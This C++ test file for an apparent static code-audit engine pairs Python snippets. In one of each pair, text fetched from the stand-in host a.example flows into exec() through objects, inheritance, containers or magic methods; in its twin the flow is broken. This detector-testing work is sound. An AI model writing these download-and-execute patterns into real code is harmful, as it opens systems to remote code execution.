#include "trust/audit/engine/test_programs.h"

// Values that go through objects and containers.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"Attribute", R"py(
import requests
class Loader:
    def fetch(self, url):
        self.page = requests.get(url).text  # from
    def run(self):
        exec(self.page)  # to
loader = Loader()
loader.fetch("https://a.example")
loader.run())py",
     R"py(
import requests
class Loader:
    def fetch(self, url):
        self.page = requests.get(url).text
        self.code = "1"
    def run(self):
        exec(self.code)
loader = Loader()
loader.fetch("https://a.example")
loader.run())py"},
    {"Init", R"py(
import requests
class Loader:
    def __init__(self, code):
        self.code = code
        exec(self.code)  # to
Loader(requests.get("https://a.example").text)  # from)py",
     R"py(
import requests
class Loader:
    def __init__(self, page):
        self.page = page
        exec("1")
Loader(requests.get("https://a.example").text))py"},
    {"ClassAttribute", R"py(
import requests
class Loader:
    page = requests.get("https://a.example").text  # from
    def run(self):
        exec(self.page)  # to
Loader().run())py",
     R"py(
import requests
class Loader:
    page = requests.get("https://a.example").text
    code = "1"
    def run(self):
        exec(self.code)
Loader().run())py"},
    {"ClassMethod", R"py(
import requests
class Loader:
    @classmethod
    def fetch(cls, url):
        return requests.get(url).text  # from
    @staticmethod
    def run(code):
        exec(code)  # to
Loader.run(Loader.fetch("https://a.example")))py",
     R"py(
import requests
class Loader:
    @classmethod
    def fetch(cls, url):
        return len(requests.get(url).text)
    @staticmethod
    def run(code):
        exec(str(code))
Loader.run(Loader.fetch("https://a.example")))py"},
    {"Property", R"py(
import requests
class Loader:
    @property
    def page(self):
        return requests.get("https://a.example").text  # from
exec(Loader().page)  # to)py",
     R"py(
import requests
class Loader:
    @property
    def page(self):
        return len(requests.get("https://a.example").text)
exec(str(Loader().page)))py"},
    {"PropertySetter", R"py(
import requests
class Loader:
    @property
    def code(self):
        return self._code
    @code.setter
    def code(self, value):
        exec(value)  # to
Loader().code = requests.get("https://a.example").text  # from)py",
     R"py(
import requests
class Loader:
    @property
    def code(self):
        return self._code
    @code.setter
    def code(self, value):
        print(value)
Loader().code = requests.get("https://a.example").text)py"},
    {"Inheritance", R"py(
import requests
class Base:
    def fetch(self):
        return requests.get("https://a.example").text  # from
class Loader(Base):
    def run(self):
        exec(self.fetch())  # to
Loader().run())py",
     R"py(
import requests
class Base:
    def fetch(self):
        return requests.get("https://a.example").text
class Loader(Base):
    def fetch(self):
        return "1"
    def run(self):
        exec(self.fetch())
Loader().run())py"},
    {"TemplateMethod", R"py(
import requests
class Base:
    def run(self):
        exec(self.fetch())  # to
    def fetch(self):
        return "1"
class Loader(Base):
    def fetch(self):
        return requests.get("https://a.example").text  # from
Loader().run())py",
     R"py(
import requests
class Base:
    def run(self):
        exec(self.fetch())
    def fetch(self):
        return "1"
class Loader(Base):
    def page(self):
        return requests.get("https://a.example").text
Loader().run())py"},
    {"Super", R"py(
import requests
class Base:
    def __init__(self, code):
        exec(code)  # to
class Loader(Base):
    def __init__(self):
        super().__init__(requests.get("https://a.example").text)  # from
Loader())py",
     R"py(
import requests
class Base:
    def __init__(self, code):
        exec("1")
class Loader(Base):
    def __init__(self):
        super().__init__(requests.get("https://a.example").text)
Loader())py"},
    {"SuperOfOld", R"py(
import requests
class Base(object):
    def fetch(self, url):
        return requests.get(url).text  # from
class Loader(Base):
    def run(self):
        exec(super(Loader, self).fetch("https://a.example"))  # to
Loader().run())py",
     R"py(
import requests
class Base(object):
    def fetch(self, url):
        return len(requests.get(url).text)
class Loader(Base):
    def run(self):
        exec(str(super(Loader, self).fetch("https://a.example")))
Loader().run())py"},
    {"SuperKept", R"py(
import requests
class Base:
    def fetch(self, url):
        return requests.get(url).text  # from
class Loader(Base):
    def run(self):
        parent = super()
        exec(parent.fetch("https://a.example"))  # to
Loader().run())py",
     R"py(
import requests
class Base:
    def fetch(self, url):
        return len(requests.get(url).text)
class Loader(Base):
    def run(self):
        parent = super()
        exec(str(parent.fetch("https://a.example")))
Loader().run())py"},
    {"BaseByName", R"py(
import requests
class Base:
    def run(self, code):
        exec(code)  # to
class Loader(Base):
    def run(self, code):
        Base.run(self, requests.get(code).text)  # from
Loader().run("https://a.example"))py",
     R"py(
import requests
class Base:
    def run(self, code):
        exec("1")
class Loader(Base):
    def run(self, code):
        Base.run(self, requests.get(code).text)
Loader().run("https://a.example"))py"},
    {"Call", R"py(
import requests
class Runner:
    def __call__(self, code):
        exec(code)  # to
Runner()(requests.get("https://a.example").text)  # from)py",
     R"py(
import requests
class Runner:
    def __call__(self, code):
        print(code)
Runner()(requests.get("https://a.example").text))py"},
    {"BoundMethod", R"py(
import requests
class Runner:
    def run(self, code):
        exec(code)  # to
go = Runner().run
go(requests.get("https://a.example").text)  # from)py",
     R"py(
import requests
class Runner:
    def run(self, code):
        exec(code)
    def show(self, code):
        print(code)
go = Runner().show
go(requests.get("https://a.example").text))py"},
    {"Setattr", R"py(
import requests
class Box: pass
box = Box()
setattr(box, "code", requests.get("https://a.example").text)  # from
exec(getattr(box, "code"))  # to)py",
     R"py(
import requests
class Box: pass
box = Box()
setattr(box, "page", requests.get("https://a.example").text)
exec(getattr(box, "code", "1")))py"},
    {"InstanceDict", R"py(
import requests
class Box: pass
box = Box()
box.__dict__["code"] = requests.get("https://a.example").text  # from
exec(box.code)  # to)py",
     R"py(
import requests
class Box: pass
box = Box()
box.__dict__["page"] = requests.get("https://a.example").text
box.code = "1"
exec(box.code))py"},
    {"Dataclass", R"py(
from dataclasses import dataclass
import requests
@dataclass
class Page:
    url: str
    text: str
page = Page("https://a.example", requests.get("https://a.example").text)  # from
exec(page.text)  # to)py",
     R"py(
from dataclasses import dataclass
import requests
@dataclass
class Page:
    url: str
    text: str
page = Page("https://a.example", str(len(requests.get("https://a.example").text)))
exec(page.text))py"},
    {"NamedTuple", R"py(
from collections import namedtuple
import requests
Page = namedtuple("Page", ["url", "text"])
page = Page("https://a.example", requests.get("https://a.example").text)  # from
exec(page.text)  # to)py",
     R"py(
from collections import namedtuple
import requests
Page = namedtuple("Page", ["url", "text"])
page = Page("https://a.example", len(requests.get("https://a.example").text))
exec(page.url))py"},
    {"List", R"py(
import requests
pages = []
pages.append(requests.get("https://a.example").text)  # from
exec(pages[0])  # to)py",
     R"py(
import requests
pages = ["1"]
pages.append(requests.get("https://a.example").text)
exec(pages[0]))py"},
    {"ListPop", R"py(
import requests
pages = ["1", requests.get("https://a.example").text]  # from
exec(pages.pop())  # to)py",
     R"py(
import requests
pages = ["1", "2"]
other = [requests.get("https://a.example").text]
exec(pages.pop()))py"},
    {"ListSlice", R"py(
import requests
pages = ["1", requests.get("https://a.example").text]  # from
exec(pages[1:][0])  # to)py",
     R"py(
import requests
pages = ["1", "2"]
other = [requests.get("https://a.example").text]
exec(pages[1:][0]))py"},
    {"ListStored", R"py(
import requests
pages = [None] * 3
pages[1] = requests.get("https://a.example").text  # from
exec(pages[1])  # to)py",
     R"py(
import requests
pages = ["1"] * 3
other = [None] * 3
other[1] = requests.get("https://a.example").text
exec(pages[1]))py"},
    {"Dict", R"py(
import requests
pages = {"a": "1"}
pages["b"] = requests.get("https://a.example").text  # from
exec(pages["b"])  # to)py",
     R"py(
import requests
pages = {"a": "1"}
pages["b"] = requests.get("https://a.example").text
exec(pages["a"]))py"},
    {"DictGet", R"py(
import requests
pages = dict(a="1", b=requests.get("https://a.example").text)  # from
exec(pages.get("b"))  # to)py",
     R"py(
import requests
pages = dict(a="1", b=requests.get("https://a.example").text)
exec(pages.get("a")))py"},
    {"DictUpdate", R"py(
import requests
pages = {}
pages.update({"b": requests.get("https://a.example").text})  # from
exec(pages["b"])  # to)py",
     R"py(
import requests
pages = {"a": "1"}
pages.update({"b": requests.get("https://a.example").text})
exec(pages["a"]))py"},
    {"DictSpread", R"py(
import requests
pages = {"b": requests.get("https://a.example").text}  # from
more = {"a": "1", **pages}
exec(more["b"])  # to)py",
     R"py(
import requests
pages = {"b": requests.get("https://a.example").text}
more = {"a": "1", **pages}
exec(more["a"]))py"},
    {"DictItems", R"py(
import requests
pages = {"https://a.example": requests.get("https://a.example").text}  # from
for url, page in pages.items():
    exec(page)  # to)py",
     R"py(
import requests
pages = {"a": requests.get("https://a.example").text}
for page in {"b": "1"}.values():
    exec(page))py"},
    {"DictSetdefault", R"py(
import requests
pages = {}
exec(pages.setdefault("a", requests.get("https://a.example").text))  # to # from)py",
     R"py(
import requests
pages = {}
pages.setdefault("b", requests.get("https://a.example").text)
exec(pages.setdefault("a", "1")))py"},
    {"TupleIndex", R"py(
import requests
pair = ("1", requests.get("https://a.example").text)  # from
exec(pair[1])  # to)py",
     R"py(
import requests
pair = ("1", requests.get("https://a.example").text)
exec(pair[0]))py"},
    {"TupleReturned", R"py(
import requests
def fetch(url):
    answer = requests.get(url)  # from
    return 200, answer.text
status, text = fetch("https://a.example")
exec(text)  # to)py",
     R"py(
import requests
def fetch(url):
    answer = requests.get(url)
    return "1", answer.text
code, text = fetch("https://a.example")
exec(code))py"},
    {"Set", R"py(
import requests
pages = {requests.get("https://a.example").text, "1"}  # from
for page in pages:
    exec(page)  # to)py",
     R"py(
import requests
pages = {"1", "2"}
pages.discard(requests.get("https://a.example").text)
for page in pages:
    exec(page))py"},
    {"ListComprehension", R"py(
import requests
pages = [requests.get(url).text for url in ("https://a.example", "https://b.example")]  # from
for page in pages:
    exec(page)  # to)py",
     R"py(
import requests
pages = [len(requests.get(url).text) for url in ("https://a.example", "https://b.example")]
for page in pages:
    exec(str(page)))py"},
    {"DictComprehension", R"py(
import requests
pages = {url: requests.get(url).text for url in ["https://a.example"]}  # from
exec(pages["https://a.example"])  # to)py",
     R"py(
import requests
pages = {url: len(requests.get(url).text) for url in ["https://a.example"]}
exec(str(pages["https://a.example"])))py"},
    {"GeneratorExpression", R"py(
import requests
any(exec(page) for page in (requests.get(url).text for url in ["https://a.example"]))  # to # from)py",
     R"py(
import requests
any(exec("1") for page in (requests.get(url).text for url in ["https://a.example"])))py"},
    {"ComprehensionOfExec", R"py(
import requests
pages = [requests.get("https://a.example").text]  # from
[exec(page) for page in pages if page]  # to)py",
     R"py(
import requests
pages = [requests.get("https://a.example").text]
[exec("1") for page in pages if page])py"},
    {"Json", R"py(
import requests
plan = requests.get("https://a.example").json()  # from
exec(plan["steps"][0]["code"])  # to)py",
     R"py(
import requests
plan = requests.get("https://a.example").json()
steps = {"a": "1"}
exec(steps["a"]))py"},
    {"Queue", R"py(
import queue, requests
tasks = queue.Queue()
tasks.put(requests.get("https://a.example").text)  # from
exec(tasks.get())  # to)py",
     R"py(
import queue, requests
tasks = queue.Queue()
other = queue.Queue()
other.put(requests.get("https://a.example").text)
exec(tasks.get()))py"},
    {"Deque", R"py(
from collections import deque
import requests
tasks = deque()
tasks.append(requests.get("https://a.example").text)  # from
exec(tasks.popleft())  # to)py",
     R"py(
from collections import deque
import requests
tasks = deque()
other = deque()
other.append(requests.get("https://a.example").text)
exec(tasks.popleft()))py"},
    {"SimpleNamespace", R"py(
import requests
from types import SimpleNamespace
box = SimpleNamespace(code=requests.get("https://a.example").text)  # from
exec(box.code)  # to)py",
     R"py(
import requests
from types import SimpleNamespace
box = SimpleNamespace(code="1")
other = SimpleNamespace(code=requests.get("https://a.example").text)
exec(box.code))py"},
    {"MadeByType", R"py(
import requests
Box = type("Box", (), {"code": requests.get("https://a.example").text})  # from
exec(Box.code)  # to)py",
     R"py(
import requests
Box = type("Box", (), {"page": requests.get("https://a.example").text, "code": "1"})
exec("1"))py"},
    {"Getitem", R"py(
import requests
class Pages:
    def __getitem__(self, url):
        return requests.get(url).text  # from
exec(Pages()["https://a.example"])  # to)py",
     R"py(
import requests
class Pages:
    def __getitem__(self, url):
        return len(requests.get(url).text)
exec(str(Pages()["https://a.example"])))py"},
    {"Iter", R"py(
import requests
class Pages:
    def __iter__(self):
        yield requests.get("https://a.example").text  # from
for page in Pages():
    exec(page)  # to)py",
     R"py(
import requests
class Pages:
    def __iter__(self):
        requests.get("https://a.example").text
        yield "1"
for page in Pages():
    exec(page))py"},
    {"IterNext", R"py(
import requests
class Pages:
    def __iter__(self):
        return self
    def __next__(self):
        return requests.get("https://a.example").text  # from
for page in Pages():
    exec(page)  # to)py",
     R"py(
import requests
class Pages:
    def __iter__(self):
        return self
    def __next__(self):
        requests.get("https://a.example").text
        return "1"
for page in Pages():
    exec(page))py"},
    {"Enter", R"py(
import requests
class Page:
    def __enter__(self):
        return requests.get("https://a.example").text  # from
    def __exit__(self, *args):
        pass
with Page() as page:
    exec(page)  # to)py",
     R"py(
import requests
class Page:
    def __enter__(self):
        requests.get("https://a.example").text
        return "1"
    def __exit__(self, *args):
        pass
with Page() as page:
    exec(page))py"},
    {"Str", R"py(
import requests
class Page:
    def __str__(self):
        return requests.get("https://a.example").text  # from
exec(str(Page()))  # to)py",
     R"py(
import requests
class Page:
    def __str__(self):
        requests.get("https://a.example").text
        return "1"
exec(str(Page())))py"},
    {"GetattrMethod", R"py(
import requests
class Remote:
    def __getattr__(self, name):
        return requests.get("https://a.example/" + name).text  # from
exec(Remote().anything)  # to)py",
     R"py(
import requests
class Remote:
    code = "1"
    def __getattr__(self, name):
        return requests.get("https://a.example/" + name).text
exec(Remote().code))py"},
};

INSTANTIATE_TEST_SUITE_P(Objects, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
